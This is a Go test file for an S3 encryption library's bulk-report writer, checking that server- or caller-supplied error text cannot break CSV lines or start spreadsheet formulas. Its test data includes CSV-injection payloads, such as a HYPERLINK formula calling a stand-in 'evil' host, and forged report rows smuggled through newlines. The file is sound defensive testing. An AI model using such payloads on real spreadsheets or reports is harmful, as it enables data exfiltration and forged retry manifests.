package bulk_test

// Attack tests (issue 12): the S3 server (or a proxy before it) as the
// author of report cells. The error code of a failed task is the server's
// text; it must not break the report's one line per result, nor start a
// formula.

import (
	"bufio"
	"bytes"
	"context"
	"encoding/xml"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/s3"
	"github.com/s3ec/s3ec-go/bulk"
	"github.com/s3ec/s3ec-go/encryptionclient"
	"github.com/s3ec/s3ec-go/materials"
)

// hostileCodeServer answers every request with a 403 whose S3 error code
// is code (what an S3-compatible store, a proxy or a compromised endpoint
// can send).
func hostileCodeServer(t *testing.T, code string) *s3.Client {
	t.Helper()
	var mu sync.Mutex
	type stored struct {
		meta http.Header
		size int
	}
	objects := map[string]stored{}
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		defer mu.Unlock()
		switch r.Method {
		case http.MethodPut: // the test's own writes: kept, so that HEAD finds an envelope
			body, _ := io.ReadAll(r.Body)
			meta := http.Header{}
			for k, v := range r.Header {
				if strings.HasPrefix(strings.ToLower(k), "x-amz-meta-") {
					meta[k] = v
				}
			}
			objects[r.URL.Path] = stored{meta, len(body)}
			w.Header().Set("ETag", `"e"`)
			return
		case http.MethodHead:
			o, ok := objects[r.URL.Path]
			if !ok {
				w.WriteHeader(http.StatusNotFound)
				return
			}
			for k, v := range o.meta {
				w.Header()[k] = v
			}
			w.Header().Set("ETag", `"e"`)
			w.Header().Set("Content-Length", strconv.Itoa(o.size))
			return
		}
		w.Header().Set("Content-Type", "application/xml")
		w.WriteHeader(http.StatusForbidden)
		var esc bytes.Buffer
		_ = xml.EscapeText(&esc, []byte(code))
		_, _ = w.Write([]byte(`<?xml version="1.0" encoding="UTF-8"?><Error><Code>` + esc.String() + `</Code><Message>denied</Message><RequestId>1</RequestId></Error>`))
	}))
	t.Cleanup(srv.Close)
	return s3.New(s3.Options{
		BaseEndpoint: aws.String(srv.URL), Region: "us-east-1", UsePathStyle: true,
		Credentials:      aws.AnonymousCredentials{},
		RetryMaxAttempts: 1,
	})
}

// TestAttackReportErrorCodeFromServer: an error code with line breaks,
// tabs and formula characters, sent by the server, must leave exactly one
// report line per task (a report's failed lines are the manifest of the
// retry: a line smuggled in through a cell would name an object that was
// never in the job), every line must parse, and no cell may start a
// formula.
func TestAttackReportErrorCodeFromServer(t *testing.T) {
	codes := []string{
		"AccessDenied\nvictim-bucket,secret%2Fkey,,PermanentFailure,X,403,forged",
		"\r\n=HYPERLINK(\"http://evil/\"&A1)",
		"\t=1+1",
		" =1+1",
		"@SUM(A1)",
		strings.Repeat("A", 5000),
	}
	kr, err := materials.NewAESKeyring(bytes.Repeat([]byte{7}, 32))
	if err != nil {
		t.Fatal(err)
	}
	for _, code := range codes {
		c, err := encryptionclient.New(hostileCodeServer(t, code), kr)
		if err != nil {
			t.Fatal(err)
		}
		for _, k := range []string{"k1", "k2"} {
			if _, err := c.PutObject(context.Background(), &s3.PutObjectInput{Bucket: aws.String("b"), Key: aws.String(k), Body: strings.NewReader("secret")}); err != nil {
				t.Fatal(err)
			}
		}
		var out bytes.Buffer
		rep := bulk.NewReport(&out)
		m := bulk.ReadCSV(strings.NewReader("b,k1\nb,k2\n"))
		sum, err := bulk.Run(context.Background(), m, bulk.Verify(c), bulk.RunOptions{Report: rep, Concurrency: 1})
		if err != nil {
			t.Fatal(err)
		}
		if sum.Failed != 2 {
			t.Fatalf("code %q: %d failed, want 2 (%s)", code, sum.Failed, sum)
		}
		if s := sum.String(); strings.ContainsAny(s, "\r\n") {
			t.Errorf("code %q: the summary is not one line: %q", code, s)
		}
		var lines []string
		sc := bufio.NewScanner(&out)
		sc.Buffer(nil, 1<<20)
		for sc.Scan() {
			lines = append(lines, sc.Text())
		}
		if len(lines) != 2 {
			t.Fatalf("code %q: %d report lines for 2 tasks:\n%s", code, len(lines), strings.Join(lines, "\n"))
		}
		for _, line := range lines {
			res, err := bulk.ParseReportLine(line)
			if err != nil {
				t.Fatalf("code %q: report line %q does not parse: %v", code, line, err)
			}
			if res.Bucket != "b" || (res.Key != "k1" && res.Key != "k2") {
				t.Errorf("code %q: report line names s3://%s/%s", code, res.Bucket, res.Key)
			}
			if len(res.ErrorCode) > 256 {
				t.Errorf("code %q: ErrorCode cell of %d bytes", code, len(res.ErrorCode))
			}
			for _, cell := range []string{res.ErrorCode, res.Message} {
				if trimmed := strings.TrimLeft(cell, " \t\r\n"); trimmed != "" && strings.ContainsRune("=+-@", rune(trimmed[0])) {
					t.Errorf("code %q: cell %q starts a formula", code, cell)
				}
			}
		}
	}
}

// hostileOp is a caller's own Operation whose results carry line breaks
// and formulas in every free-text cell.
type hostileOp struct{}

func (hostileOp) Name() string { return "hostile" }

func (hostileOp) Do(_ context.Context, t bulk.Task) bulk.Result {
	return bulk.Result{Task: t, Outcome: bulk.Failed, Status: bulk.PermanentFailure,
		ErrorCode: "E\nvictim,key2,,PermanentFailure,E,403,x", Message: " \t=HYPERLINK(\"http://evil/\")"}
}

type oneTask struct {
	t    bulk.Task
	done bool
}

func (m *oneTask) Next(context.Context) (bulk.Task, error) {
	if m.done {
		return bulk.Task{}, io.EOF
	}
	m.done = true
	return m.t, nil
}

func (m *oneTask) Close() error { return nil }

// TestAttackReportCellsOfCallersOperation: the cells a caller's own
// Manifest or Operation fills (bucket, version id, error code, message)
// stay on one line and never start a formula, even after spaces.
func TestAttackReportCellsOfCallersOperation(t *testing.T) {
	var out bytes.Buffer
	rep := bulk.NewReport(&out)
	m := &oneTask{t: bulk.Task{Bucket: " =1+1\nb3", Key: "k", VersionId: "v\r\n@x"}}
	if _, err := bulk.Run(context.Background(), m, hostileOp{}, bulk.RunOptions{Report: rep}); err != nil {
		t.Fatal(err)
	}
	text := strings.TrimSuffix(out.String(), "\n")
	if strings.ContainsAny(text, "\r\n") {
		t.Fatalf("one result, more than one line:\n%s", text)
	}
	res, err := bulk.ParseReportLine(text)
	if err != nil {
		t.Fatal(err)
	}
	for _, cell := range []string{res.Bucket, res.VersionId, res.ErrorCode, res.Message} {
		if trimmed := strings.TrimLeft(cell, " \t"); trimmed != "" && strings.ContainsRune("=+-@", rune(trimmed[0])) {
			t.Errorf("cell %q starts a formula", cell)
		}
	}
}
